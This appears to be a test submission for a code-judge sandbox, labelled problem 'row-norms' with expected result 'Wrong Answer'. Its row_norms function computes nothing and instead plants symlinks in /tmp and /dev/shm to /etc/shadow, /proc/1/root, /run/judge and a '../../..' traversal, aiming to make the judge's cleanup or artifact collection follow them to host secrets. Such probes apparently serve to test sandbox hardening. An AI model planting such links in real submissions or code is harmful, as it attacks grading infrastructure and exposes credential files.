# goal: links to what the host has, for whoever cleans up or collects
# problem: row-norms
# expect: Wrong Answer

import os

if not os.path.isdir("/opt/judge/packages"):
    raise SystemExit("this is for a container")


def row_norms(X):
    for i, place in enumerate(("/", "/etc/shadow", "/proc/1/root", "/run/judge", "../../..", "/dev/zero", "answer")):
        os.symlink(place, f"/tmp/answer{i}")
        os.symlink(place, f"/dev/shm/answer{i}")
    return None
